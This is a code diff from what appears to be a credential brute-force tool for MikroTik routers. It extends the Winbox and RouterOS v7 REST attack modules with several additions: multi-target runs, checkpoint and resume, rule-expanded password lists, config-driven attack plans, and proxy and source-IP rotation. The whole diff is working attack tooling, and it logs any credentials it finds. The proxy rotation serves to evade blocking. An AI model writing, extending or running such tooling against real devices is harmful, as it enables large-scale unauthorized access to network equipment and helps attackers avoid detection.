+			TimeConsumed: result.EndTime.Sub(result.StartTime),
+			AttemptedAt:  result.EndTime,
+		})
+		lastProgress = maybeWriteProgress(progressSink, lastProgress, attemptIdx, len(targets), targetsCompleted, successCount)
 	}
 
 	// Process errors
@@ -655,10 +931,13 @@ func runMultiTargetV7(targetFile, wordlist, user string, port int, timeout time.
 		Int("successful", successCount).
 		Int("failed", errorCount).
 		Msg("Multi-target attack summary")
+	writeSummaryRecord(resultSink, factory.GetProtocolName(), len(targets), attemptIdx, successCount, time.Since(startTime))
 }
 
 func runMultiTargetV7Rest(targetFile, wordlist, user string, port int, timeout time.Duration,
-	workers int, rateLimit time.Duration, concurrentTargets int, useHTTPS bool) {
+	workers int, rateLimit time.Duration, concurrentTargets int, useHTTPS bool,
+	checkpointPath string, resume bool, checkpointInterval int,
+	rulesPath string, ruleExprs []string, dialerInstance *dialer.Dialer) {
 
 	zlog.Info().Str("file", targetFile).Msg("Loading targets for multi-target attack")
 
@@ -673,8 +952,14 @@ func runMultiTargetV7Rest(targetFile, wordlist, user string, port int, timeout t
 		zlog.Fatal().Msg("No valid targets found in file")
 	}
 
+	targets, resumeRecords := prepareCheckpointing(checkpointPath, resume, targets)
+	if len(targets) == 0 {
+		zlog.Info().Msg("All targets already completed per checkpoint, nothing to do")
+		return
+	}
+
 	// Load passwords
-	passwords, err := loadPasswords(wordlist)
+	passwords, err := loadExpandedPasswords(wordlist, rulesPath, ruleExprs)
 	if err != nil {
 		zlog.Fatal().Err(err).Msg("Failed to load wordlist")
 	}
@@ -682,18 +967,303 @@ func runMultiTargetV7Rest(targetFile, wordlist, user string, port int, timeout t
 	// Create multi-target engine
 	factory := &rest.MikrotikV7RestFactory{}
 	engine := core.NewMultiTargetEngine(factory, workers, concurrentTargets, rateLimit)
+	engine.SetDialer(dialerInstance)
+	engine.LoadTargets(targets)
+	engine.LoadPasswords(passwords)
+	if resumeRecords != nil {
+		engine.SetResumeCheckpoints(resumeRecords)
+	}
+
+	checkpointWriter := openCheckpointWriter(checkpointPath)
+	if checkpointWriter != nil {
+		defer checkpointWriter.Close()
+		engine.SetCheckpointWriter(checkpointWriter, checkpointInterval)
+	}
+
+	resultSink, progressSink := openOutputSinks()
+	defer resultSink.Close()
+	defer progressSink.Close()
+
+	// Start attack
+	startTime := time.Now()
+	ctx, cancel := context.WithCancel(runCtx)
+	defer cancel()
+
+	engine.Start(ctx)
+
+	// Process results
+	successCount := 0
+	targetsCompleted := 0
+	attemptIdx := 0
+	lastProgress := time.Time{}
+	for result := range engine.GetResults() {
+		targetsCompleted++
+		attemptIdx += result.Attempts
+		if result.Success {
+			successCount++
+			zlog.Info().
+				Str("target", result.Target.IP).
+				Str("username", result.Target.Username).
+				Str("password", result.SuccessPassword).
+				Msg("✓ Found valid credentials")
+		}
+		writeResultRecord(resultSink, result.Target.Port, attemptIdx, core.Result{
+			Username:     result.Target.Username,
+			Password:     result.SuccessPassword,
+			Success:      result.Success,
+			ModuleName:   factory.GetProtocolName(),
+			Target:       result.Target.IP,
+			TimeConsumed: result.EndTime.Sub(result.StartTime),
+			AttemptedAt:  result.EndTime,
+		})
+		lastProgress = maybeWriteProgress(progressSink, lastProgress, attemptIdx, len(targets), targetsCompleted, successCount)
+	}
+
+	// Process errors
+	errorCount := 0
+	for err := range engine.GetErrors() {
+		zlog.Error().
+			Str("target", err.Target.IP).
+			Err(err.Error).
+			Msg("Target processing failed")
+		errorCount++
+	}
+
+	zlog.Info().
+		Int("total_targets", len(targets)).
+		Int("successful", successCount).
+		Int("failed", errorCount).
+		Msg("Multi-target attack summary")
+	writeSummaryRecord(resultSink, factory.GetProtocolName(), len(targets), attemptIdx, successCount, time.Since(startTime))
+}
+
+func runMikrotikWinbox(cmd *cobra.Command, args []string) {
+	target, _ := cmd.Flags().GetString("target")
+	user, _ := cmd.Flags().GetString("user")
+	wordlist, _ := cmd.Flags().GetString("wordlist")
+	workers, _ := cmd.Flags().GetInt("workers")
+	rateLimit, _ := cmd.Flags().GetString("rate")
+	port, _ := cmd.Flags().GetInt("port")
+	timeout, _ := cmd.Flags().GetString("timeout")
+	targetFile, _ := cmd.Flags().GetString("target-file")
+	concurrentTargets, _ := cmd.Flags().GetInt("concurrent-targets")
+	checkpointPath, _ := cmd.Flags().GetString("checkpoint")
+	resume, _ := cmd.Flags().GetBool("resume")
+	checkpointInterval, _ := cmd.Flags().GetInt("checkpoint-interval")
+	rulesPath, _ := cmd.Flags().GetString("rules")
+	ruleExprs, _ := cmd.Flags().GetStringArray("rule")
+
+	zlog.Debug().Msg("Starting runMikrotikWinbox function")
+	zlog.Debug().
+		Str("target", target).
+		Str("user", user).
+		Str("wordlist", wordlist).
+		Int("workers", workers).
+		Str("rate", rateLimit).
+		Int("port", port).
+		Str("timeout", timeout).
+		Str("target-file", targetFile).
+		Int("concurrent-targets", concurrentTargets).
+		Msg("Flags")
+
+	rateDuration, err := time.ParseDuration(rateLimit)
+	if err != nil {
+		zlog.Fatal().Err(err).Msg("Invalid rate limit")
+	}
+
+	timeoutDuration, err := time.ParseDuration(timeout)
+	if err != nil {
+		zlog.Fatal().Err(err).Msg("Invalid timeout")
+	}
+
+	zlog.Debug().Str("wordlist", wordlist).Msg("Loading passwords from")
+	baseWords, err := loadPasswords(wordlist)
+	if err != nil {
+		zlog.Fatal().Err(err).Msg("Failed to load wordlist")
+	}
+	ruleSet, err := buildRuleSet(rulesPath, ruleExprs)
+	if err != nil {
+		zlog.Fatal().Err(err).Msg("Failed to load rules")
+	}
+	passwordTotal := ruleSet.Total(len(baseWords))
+	zlog.Debug().Int("n", passwordTotal).Msg("Loaded n passwords")
+
+	dialerInstance, err := buildDialer(cmd, timeoutDuration)
+	if err != nil {
+		zlog.Fatal().Err(err).Msg("Failed to configure dialer")
+	}
+
+	// Validate that either target or target-file is specified, but not both
+	if targetFile != "" && target != "" {
+		zlog.Fatal().Msg("Cannot specify both --target and --target-file")
+	}
+
+	if targetFile != "" {
+		// Multi-target mode
+		zlog.Info().Str("file", targetFile).Msg("Running in multi-target mode")
+		runMultiTargetWinbox(targetFile, wordlist, user, port, timeoutDuration, workers, rateDuration, concurrentTargets, checkpointPath, resume, checkpointInterval, rulesPath, ruleExprs, dialerInstance)
+		return
+	}
+
+	// Single-target mode
+	if target == "" {
+		zlog.Fatal().Msg("Must specify either --target or --target-file")
+	}
+
+	zlog.Info().
+		Str("target", target).
+		Int("passwords", passwordTotal).
+		Int("workers", workers).
+		Str("rate", rateLimit).
+		Msg("Starting Winbox attack")
+
+	zlog.Debug().Msg("Creating Winbox module")
+	module := winbox.NewMikrotikWinboxModule()
+	moduleOptions := map[string]interface{}{
+		"port":    port,
+		"timeout": timeoutDuration,
+	}
+	if dialerInstance != nil {
+		moduleOptions["dialer"] = dialerInstance
+	}
+	if err := module.Initialize(target, user, moduleOptions); err != nil {
+		zlog.Fatal().Err(err).Msg("Failed to initialize Winbox module")
+	}
+
+	zlog.Debug().Int("workers", workers).Dur("ratelimit", rateDuration).Msg("Creating engine")
+	engine := core.NewEngine(workers, rateDuration)
+	engine.SetModule(module)
+	engine.LoadPasswordSource(ruleSet.Source(baseWords), passwordTotal)
+
+	zlog.Debug().Msg("Starting engine...")
+	if err := engine.Start(); err != nil {
+		zlog.Fatal().Err(err).Msg("Failed to start engine")
+	}
+	zlog.Debug().Msg("Engine started successfully")
+
+	resultSink, progressSink := openOutputSinks()
+	defer resultSink.Close()
+	defer progressSink.Close()
+
+	zlog.Debug().Msg("Waiting for results...")
+	startTime := time.Now()
+	successCount := 0
+	totalAttempts := 0
+	lastProgress := time.Time{}
+
+	for result := range engine.Results() {
+		totalAttempts++
+		zlog.Trace().
+			Int("attempt", totalAttempts).
+			Str("password", result.Password).
+			Dur("elapsed", result.TimeConsumed).
+			Msg("Received result")
+
+		writeResultRecord(resultSink, port, totalAttempts, result)
+
+		if result.Success {
+			successCount++
+			zlog.Info().
+				Str("username", result.Username).
+				Str("password", result.Password).
+				Str("target", result.Target).
+				Str("module", result.ModuleName).
+				Msg("✓ SUCCESS")
+
+			zlog.Debug().Msg("Found valid credentials, stopping engine...")
+			engine.Stop()
+			zlog.Debug().Msg("Engine stopped")
+			break
+		}
+
+		if totalAttempts%10 == 0 {
+			progress := engine.Progress() * 100
+			fmt.Printf("Progress: %.1f%% (%d/%d attempts)\r", progress, totalAttempts, passwordTotal)
+		}
+		lastProgress = maybeWriteProgress(progressSink, lastProgress, totalAttempts, 1, 0, successCount)
+	}
+
+	zlog.Debug().
+		Int("total_attempts", totalAttempts).
+		Int("successes", successCount).
+		Msg("Results loop completed")
+
+	zlog.Info().Msg("Winbox attack completed")
+	zlog.Info().Int("total_attempts", totalAttempts).Msg("Total attempts")
+	zlog.Info().Int("successful_attempts", successCount).Msg("Successful authentications")
+
+	if successCount == 0 {
+		zlog.Info().Msg("No valid credentials found")
+	}
+	writeSummaryRecord(resultSink, module.GetProtocolName(), 1, totalAttempts, successCount, time.Since(startTime))
+	zlog.Debug().Msg("runMikrotikWinbox function completed")
+}
+
+func runMultiTargetWinbox(targetFile, wordlist, user string, port int, timeout time.Duration,
+	workers int, rateLimit time.Duration, concurrentTargets int,
+	checkpointPath string, resume bool, checkpointInterval int,
+	rulesPath string, ruleExprs []string, dialerInstance *dialer.Dialer) {
+
+	zlog.Info().Str("file", targetFile).Msg("Loading targets for multi-target attack")
+
+	// Load targets
+	parser := core.NewTargetParser("", port) // Empty default command
+	targets, err := parser.ParseTargetFile(targetFile)
+	if err != nil {
+		zlog.Fatal().Err(err).Msg("Failed to load targets")
+	}
+
+	if len(targets) == 0 {
+		zlog.Fatal().Msg("No valid targets found in file")
+	}
+
+	targets, resumeRecords := prepareCheckpointing(checkpointPath, resume, targets)
+	if len(targets) == 0 {
+		zlog.Info().Msg("All targets already completed per checkpoint, nothing to do")
+		return
+	}
+
+	// Load passwords
+	passwords, err := loadExpandedPasswords(wordlist, rulesPath, ruleExprs)
+	if err != nil {
+		zlog.Fatal().Err(err).Msg("Failed to load wordlist")
+	}
+
+	// Create multi-target engine
+	factory := &winbox.MikrotikWinboxFactory{}
+	engine := core.NewMultiTargetEngine(factory, workers, concurrentTargets, rateLimit)
+	engine.SetDialer(dialerInstance)
 	engine.LoadTargets(targets)
 	engine.LoadPasswords(passwords)
+	if resumeRecords != nil {
+		engine.SetResumeCheckpoints(resumeRecords)
+	}
+
+	checkpointWriter := openCheckpointWriter(checkpointPath)
+	if checkpointWriter != nil {
+		defer checkpointWriter.Close()
+		engine.SetCheckpointWriter(checkpointWriter, checkpointInterval)
+	}
+
+	resultSink, progressSink := openOutputSinks()
+	defer resultSink.Close()
+	defer progressSink.Close()
 
 	// Start attack
-	ctx, cancel := context.WithCancel(context.Background())
+	startTime := time.Now()
+	ctx, cancel := context.WithCancel(runCtx)
 	defer cancel()
 
 	engine.Start(ctx)
 
 	// Process results
 	successCount := 0
+	targetsCompleted := 0
+	attemptIdx := 0
+	lastProgress := time.Time{}
 	for result := range engine.GetResults() {
+		targetsCompleted++
+		attemptIdx += result.Attempts
 		if result.Success {
 			successCount++
 			zlog.Info().
@@ -702,6 +1272,16 @@ func runMultiTargetV7Rest(targetFile, wordlist, user string, port int, timeout t
 				Str("password", result.SuccessPassword).
 				Msg("✓ Found valid credentials")
 		}
+		writeResultRecord(resultSink, result.Target.Port, attemptIdx, core.Result{
+			Username:     result.Target.Username,
+			Password:     result.SuccessPassword,
+			Success:      result.Success,
+			ModuleName:   factory.GetProtocolName(),
+			Target:       result.Target.IP,
+			TimeConsumed: result.EndTime.Sub(result.StartTime),
+			AttemptedAt:  result.EndTime,
+		})
+		lastProgress = maybeWriteProgress(progressSink, lastProgress, attemptIdx, len(targets), targetsCompleted, successCount)
 	}
 
 	// Process errors
@@ -719,6 +1299,457 @@ func runMultiTargetV7Rest(targetFile, wordlist, user string, port int, timeout t
 		Int("successful", successCount).
 		Int("failed", errorCount).
 		Msg("Multi-target attack summary")
+	writeSummaryRecord(resultSink, factory.GetProtocolName(), len(targets), attemptIdx, successCount, time.Since(startTime))
+}
+
+// runFromConfig drives the "run" subcommand: it loads a --config file,
+// resolves its targets (applying per-target overrides), and attacks each
+// group of compatible targets in turn. Apart from the global --output,
+// --output-format and --progress-file flags, which take precedence over the
+// config's output, output_format and progress_file keys when given, CLI
+// flags are not consulted here — everything else must come from the config
+// file.
+func runFromConfig(cmd *cobra.Command, args []string) {
+	configPath, _ := cmd.Flags().GetString("config")
+
+	cfg, err := core.LoadRunConfig(configPath)
+	if err != nil {
+		zlog.Fatal().Err(err).Msg("Failed to load config file")
+	}
+
+	resolved, err := cfg.Resolve()
+	if err != nil {
+		zlog.Fatal().Err(err).Msg("Failed to resolve config targets")
+	}
+	if len(resolved) == 0 {
+		zlog.Fatal().Msg("Config file defines no targets")
+	}
+
+	workers := cfg.Workers
+	if workers == 0 {
+		workers = 5
+	}
+	rateLimit := cfg.Rate
+	if rateLimit == "" {
+		rateLimit = "100ms"
+	}
+	rateDuration, err := time.ParseDuration(rateLimit)
+	if err != nil {
+		zlog.Fatal().Err(err).Msg("Invalid rate limit in config")
+	}
+	concurrentTargets := cfg.ConcurrentTargets
+	if concurrentTargets == 0 {
+		concurrentTargets = 1
+	}
+	checkpointInterval := cfg.CheckpointInterval
+	if checkpointInterval == 0 {
+		checkpointInterval = 10
+	}
+
+	groups := groupResolvedTargets(resolved)
+	zlog.Info().
+		Int("groups", len(groups)).
+		Int("targets", len(resolved)).
+		Msg("Resolved config into target groups")
+
+	if !cmd.Flags().Changed("output") && cfg.Output != "" {
+		outputPath = cfg.Output
+	}
+	if !cmd.Flags().Changed("output-format") && cfg.OutputFormat != "" {
+		outputFormat = cfg.OutputFormat
+	}
+	if !cmd.Flags().Changed("progress-file") && cfg.ProgressFile != "" {
+		progressPath = cfg.ProgressFile
+	}
+
+	resultSink, progressSink := openOutputSinks()
+	defer resultSink.Close()
+	defer progressSink.Close()
+
+	startTime := time.Now()
+	successCount := 0
+	attemptIdx := 0
+	errorCount := 0
+
+	for _, group := range groups {
+		s, a, e := runConfigTargetGroup(group, workers, rateDuration, concurrentTargets,
+			cfg.Checkpoint, cfg.Resume, checkpointInterval, resultSink, progressSink, len(resolved))
+		successCount += s
+		attemptIdx += a
+		errorCount += e
+	}
+
+	zlog.Info().
+		Int("total_targets", len(resolved)).
+		Int("successful", successCount).
+		Int("failed", errorCount).
+		Msg("Config-driven attack summary")
+	writeSummaryRecord(resultSink, "config", len(resolved), attemptIdx, successCount, time.Since(startTime))
+}
+
+// runValidateConfig drives the "validate-config" subcommand: it parses and
+// resolves a --config file and prints the effective attack plan, without
+// dialing anything.
+func runValidateConfig(cmd *cobra.Command, args []string) {
+	configPath, _ := cmd.Flags().GetString("config")
+
+	cfg, err := core.LoadRunConfig(configPath)
+	if err != nil {
+		zlog.Fatal().Err(err).Msg("Failed to load config file")
+	}
+
+	resolved, err := cfg.Resolve()
+	if err != nil {
+		zlog.Fatal().Err(err).Msg("Failed to resolve config targets")
+	}
+
+	groups := groupResolvedTargets(resolved)
+
+	fmt.Printf("\n=== Effective Attack Plan ===\n")
+	fmt.Printf("Config:  %s\n", configPath)
+	fmt.Printf("Targets: %d (%d group(s))\n\n", len(resolved), len(groups))
+	for _, group := range groups {
+		fmt.Printf("Group: module=%s wordlist=%s timeout=%s\n", group.key.Module, group.key.Wordlist, group.key.Timeout)
+		for _, rt := range group.targets {
+			wordlistInfo := ""
+			if passwords, err := loadPasswords(rt.Wordlist); err != nil {
+				wordlistInfo = fmt.Sprintf(" (failed to read wordlist: %v)", err)
+			} else {
+				wordlistInfo = fmt.Sprintf(" (%d passwords)", len(passwords))
+			}
+			fmt.Printf("  %s:%d user=%s https=%t%s\n", rt.IP, rt.Port, rt.User, rt.HTTPS, wordlistInfo)
+		}
+	}
+	fmt.Printf("=============================\n\n")
+}
+
+// targetGroupKey groups resolved config targets that can share a single
+// MultiTargetEngine: an engine is bound to exactly one ModuleFactory and one
+// shared password list, so targets must agree on module, wordlist, and
+// timeout to run together.
+type targetGroupKey struct {
+	Module   string
+	Wordlist string
+	Timeout  time.Duration
+}
+
+// targetGroup is a set of resolved targets sharing a targetGroupKey, driven
+// by a single MultiTargetEngine.
+type targetGroup struct {
+	key     targetGroupKey
+	targets []core.ResolvedTarget
+}
+
+// groupResolvedTargets partitions resolved targets into the minimal set of
+// groups that can each be driven by one MultiTargetEngine instance, while
+// preserving the original target order within and across groups.
+func groupResolvedTargets(resolved []core.ResolvedTarget) []targetGroup {
+	index := make(map[targetGroupKey]int)
+	var groups []targetGroup
+	for _, rt := range resolved {
+		key := targetGroupKey{Module: rt.Module, Wordlist: rt.Wordlist, Timeout: rt.Timeout}
+		if i, ok := index[key]; ok {
+			groups[i].targets = append(groups[i].targets, rt)
+			continue
+		}
+		index[key] = len(groups)
+		groups = append(groups, targetGroup{key: key, targets: []core.ResolvedTarget{rt}})
+	}
+	return groups
+}
+
+// runConfigTargetGroup runs a single group of config-resolved targets
+// through a MultiTargetEngine built from the group's module, mirroring
+// runMultiTargetV6/V7/V7Rest/Winbox but sourcing its factory from
+// interfaces.DefaultRegistry instead of a hardcoded package import.
+func runConfigTargetGroup(group targetGroup, workers int, rateLimit time.Duration, concurrentTargets int,
+	checkpointPath string, resume bool, checkpointInterval int,
+	resultSink, progressSink output.Sink, totalTargets int) (successCount, attemptIdx, errorCount int) {
+
+	info, ok := core.LookupModule(group.key.Module)
+	if !ok {
+		zlog.Fatal().Str("module", group.key.Module).Msg("Unknown module in config group")
+	}
+
+	targets := make([]*core.Target, 0, len(group.targets))
+	for _, rt := range group.targets {
+		target := &core.Target{
+			Username: rt.User,
+			IP:       rt.IP,
+			Port:     rt.Port,
+			Options:  map[string]interface{}{"timeout": rt.Timeout},
+		}
+		if rt.HTTPS {
+			target.Options["https"] = true
+		}
+		targets = append(targets, target)
+	}
+
+	targets, resumeRecords := prepareCheckpointing(checkpointPath, resume, targets)
+	if len(targets) == 0 {
+		zlog.Info().Str("module", group.key.Module).Msg("All targets in group already completed per checkpoint, nothing to do")
+		return 0, 0, 0
+	}
+
+	passwords, err := loadPasswords(group.key.Wordlist)
+	if err != nil {
+		zlog.Fatal().Err(err).Str("wordlist", group.key.Wordlist).Msg("Failed to load wordlist")
+	}
+
+	engine := core.NewMultiTargetEngine(info.MultiFactory, workers, concurrentTargets, rateLimit)
+	engine.LoadTargets(targets)
+	engine.LoadPasswords(passwords)
+	if resumeRecords != nil {
+		engine.SetResumeCheckpoints(resumeRecords)
+	}
+
+	checkpointWriter := openCheckpointWriter(checkpointPath)
+	if checkpointWriter != nil {
+		defer checkpointWriter.Close()
+		engine.SetCheckpointWriter(checkpointWriter, checkpointInterval)
+	}
+
+	ctx, cancel := context.WithCancel(runCtx)
+	defer cancel()
+	engine.Start(ctx)
+
+	targetsCompleted := 0
+	lastProgress := time.Time{}
+	for result := range engine.GetResults() {
+		targetsCompleted++
+		attemptIdx += result.Attempts
+		if result.Success {
+			successCount++
+			zlog.Info().
+				Str("target", result.Target.IP).
+				Str("module", group.key.Module).
+				Str("username", result.Target.Username).
+				Str("password", result.SuccessPassword).
+				Msg("✓ Found valid credentials")
+		}
+		writeResultRecord(resultSink, result.Target.Port, attemptIdx, core.Result{
+			Username:     result.Target.Username,
+			Password:     result.SuccessPassword,
+			Success:      result.Success,
+			ModuleName:   info.Name,
+			Target:       result.Target.IP,
+			TimeConsumed: result.EndTime.Sub(result.StartTime),
+			AttemptedAt:  result.EndTime,
+		})
+		lastProgress = maybeWriteProgress(progressSink, lastProgress, attemptIdx, totalTargets, targetsCompleted, successCount)
+	}
+
+	for err := range engine.GetErrors() {
+		zlog.Error().
+			Str("target", err.Target.IP).
+			Str("module", group.key.Module).
+			Err(err.Error).
+			Msg("Target processing failed")
+		errorCount++
+	}
+
+	return successCount, attemptIdx, errorCount
+}
+
+// prepareCheckpointing applies --resume to a freshly-parsed target list,
+// dropping targets the checkpoint file already recorded as completed, and
+// returns the loaded records so the engine can seed each remaining target's
+// starting password index. A nil checkpoint path or --resume not set is a
+// no-op.
+func prepareCheckpointing(checkpointPath string, resume bool, targets []*core.Target) ([]*core.Target, map[string]core.CheckpointRecord) {
+	if checkpointPath == "" || !resume {
+		return targets, nil
+	}
+
+	records, err := core.LoadCheckpoint(checkpointPath)
+	if err != nil {
+		zlog.Fatal().Err(err).Msg("Failed to load checkpoint")
+	}
+
+	remaining := make([]*core.Target, 0, len(targets))
+	skipped := 0
+	for _, t := range targets {
+		if record, ok := records[t.IP]; ok && record.Completed {
+			skipped++
+			continue
+		}
+		remaining = append(remaining, t)
+	}
+	if skipped > 0 {
+		zlog.Info().Int("skipped", skipped).Msg("Skipping targets already completed per checkpoint")
+	}
+	return remaining, records
+}
+
+// openCheckpointWriter opens the append-only JSONL checkpoint file for
+// --checkpoint, or returns nil if checkpointing wasn't requested.
+func openCheckpointWriter(checkpointPath string) *core.CheckpointWriter {
+	if checkpointPath == "" {
+		return nil
+	}
+	writer, err := core.NewCheckpointWriter(checkpointPath)
+	if err != nil {
+		zlog.Fatal().Err(err).Msg("Failed to open checkpoint file")
+	}
+	return writer
+}
+
+// openOutputSinks builds the result and progress sinks configured via
+// --output/--output-format and --progress-file. A NoopSink is returned for
+// whichever one was not configured.
+func openOutputSinks() (resultSink, progressSink output.Sink) {
+	resultSink = output.NoopSink{}
+	progressSink = output.NoopSink{}
+
+	if outputPath != "" {
+		sink, err := output.NewSink(outputPath, outputFormat)
+		if err != nil {
+			zlog.Fatal().Err(err).Msg("Failed to open --output sink")
+		}
+		resultSink = sink
+	}
+
+	if progressPath != "" {
+		sink, err := output.NewSink(progressPath, "jsonl")
+		if err != nil {
+			zlog.Fatal().Err(err).Msg("Failed to open --progress-file sink")
+		}
+		progressSink = sink
+	}
+
+	return resultSink, progressSink
+}
+
+// writeResultRecord writes one ResultRecord to sink. The single-target
+// runners call it once per authentication attempt; the multi-target runners
+// call it once per target with that target's final outcome (Password is the
+// found password, or empty), so their output has no record of each attempt.
+func writeResultRecord(sink output.Sink, port int, attemptIdx int, result core.Result) {
+	record := output.ResultRecord{
+		Timestamp:  result.AttemptedAt,
+		Target:     result.Target,
+		Port:       port,
+		Module:     result.ModuleName,
+		Username:   result.Username,
+		Password:   result.Password,
+		Success:    result.Success,
+		ElapsedMs:  result.TimeConsumed.Milliseconds(),
+		AttemptIdx: attemptIdx,
+		Proxy:      result.Proxy,
+	}
+	if result.Error != nil {
+		record.Error = result.Error.Error()
+	}
+	if err := sink.WriteResult(record); err != nil {
+		zlog.Warn().Err(err).Msg("Failed to write result record")
+	}
+}
+
+// maybeWriteProgress emits a progress record if at least
+// progressReportInterval has elapsed since lastReport, returning the
+// (possibly updated) last-report time.
+func maybeWriteProgress(sink output.Sink, lastReport time.Time, attempts, targetsTotal, targetsCompleted, successCount int) time.Time {
+	if time.Since(lastReport) < progressReportInterval {
+		return lastReport
+	}
+	record := output.ProgressRecord{
+		Timestamp:        time.Now(),
+		AttemptsTotal:    attempts,
+		TargetsTotal:     targetsTotal,
+		TargetsCompleted: targetsCompleted,
+		SuccessCount:     successCount,
+	}
+	if err := sink.WriteProgress(record); err != nil {
+		zlog.Warn().Err(err).Msg("Failed to write progress record")
+	}
+	return time.Now()
+}
+
+// writeSummaryRecord emits the final summary record for a completed run.
+func writeSummaryRecord(sink output.Sink, module string, totalTargets, totalAttempts, successCount int, duration time.Duration) {
+	record := output.SummaryRecord{
+		Timestamp:     time.Now(),
+		Module:        module,
+		TotalTargets:  totalTargets,
+		TotalAttempts: totalAttempts,
+		SuccessCount:  successCount,
+		Duration:      duration,
+	}
+	if err := sink.WriteSummary(record); err != nil {
+		zlog.Warn().Err(err).Msg("Failed to write summary record")
+	}
+}
+
+// buildRuleSet loads a rules.Set from a --rules file and/or one or more
+// repeated --rule expressions. An empty rulesPath and no ruleExprs yields an
+// empty set, which passes the base wordlist through unchanged.
+func buildRuleSet(rulesPath string, ruleExprs []string) (*rules.Set, error) {
+	set := rules.NewSet()
+	if rulesPath != "" {
+		if err := set.AddFile(rulesPath); err != nil {
+			return nil, fmt.Errorf("loading --rules file %q: %w", rulesPath, err)
+		}
+	}
+	for _, expr := range ruleExprs {
+		if err := set.AddExpr(expr); err != nil {
+			return nil, fmt.Errorf("parsing --rule %q: %w", expr, err)
+		}
+	}
+	return set, nil
+}
+
+// buildDialer reads the --source-ip/--proxy/--proxy-file/--proxy-strategy
+// flags and, if any were supplied, builds a *dialer.Dialer that rotates
+// outbound connections across them. It returns nil (not an error) when none
+// of those flags were set; callers add it to Initialize's options map only
+// when it is non-nil.
+func buildDialer(cmd *cobra.Command, timeout time.Duration) (*dialer.Dialer, error) {
+	sourceIPs, _ := cmd.Flags().GetStringArray("source-ip")
+	proxyURLs, _ := cmd.Flags().GetStringArray("proxy")
+	proxyFile, _ := cmd.Flags().GetString("proxy-file")
+	strategy, _ := cmd.Flags().GetString("proxy-strategy")
+
+	var proxies []dialer.Proxy
+	for _, raw := range proxyURLs {
+		p, err := dialer.ParseProxy(raw)
+		if err != nil {
+			return nil, fmt.Errorf("parsing --proxy %q: %w", raw, err)
+		}
+		proxies = append(proxies, p)
+	}
+	if proxyFile != "" {
+		fileProxies, err := dialer.LoadProxyFile(proxyFile)
+		if err != nil {
+			return nil, fmt.Errorf("loading --proxy-file %q: %w", proxyFile, err)
+		}
+		proxies = append(proxies, fileProxies...)
+	}
+
+	if len(sourceIPs) == 0 && len(proxies) == 0 {
+		return nil, nil
+	}
+
+	pool, err := dialer.NewPool(sourceIPs, proxies, dialer.Strategy(strategy))
+	if err != nil {
+		return nil, fmt.Errorf("building dialer pool: %w", err)
+	}
+	return dialer.New(pool, timeout), nil
+}
+
+// loadExpandedPasswords loads a wordlist and, if any rules were supplied,
+// materializes the rule-expanded candidate set. It's used by the
+// multi-target runners, which (unlike the single-target Engine) still take
+// a materialized []string per target rather than a streaming source.
+func loadExpandedPasswords(wordlist, rulesPath string, ruleExprs []string) ([]string, error) {
+	words, err := loadPasswords(wordlist)
+	if err != nil {
+		return nil, err
+	}
+	ruleSet, err := buildRuleSet(rulesPath, ruleExprs)
+	if err != nil {
+		return nil, err
+	}
+	return ruleSet.Expand(words), nil
 }
 
 func loadPasswords(filename string) ([]string, error) {